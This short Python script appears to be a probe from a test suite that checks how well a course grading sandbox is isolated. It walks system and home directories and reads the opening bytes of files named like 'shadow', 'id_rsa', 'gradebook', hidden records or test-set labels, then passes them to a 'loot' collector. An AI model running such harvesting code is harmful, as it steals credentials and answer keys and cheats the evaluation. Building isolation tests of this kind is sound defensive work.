"""Walks through the whole file system for anything that looks like a secret of the course."""
# deserves: 18
# layers: needed

import os
import time

end = time.monotonic() + 0.7
for root in (
    machine.home,
    os.path.dirname(machine.gradebook),
    "/root",
    "/home",
    "/work",
    "/srv",
    "/opt",
    "/etc",
    "/var",
):
    for folder, folders, files in os.walk(root):
        for name in files:
            if any(word in name for word in ("hidden", "gradebook", "shadow", "recorded", "id_rsa", "t10k-labels")):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        loot(f"{folder}/{name} {file.read(60)}")
                except OSError:
                    pass
        if time.monotonic() > end:
            break
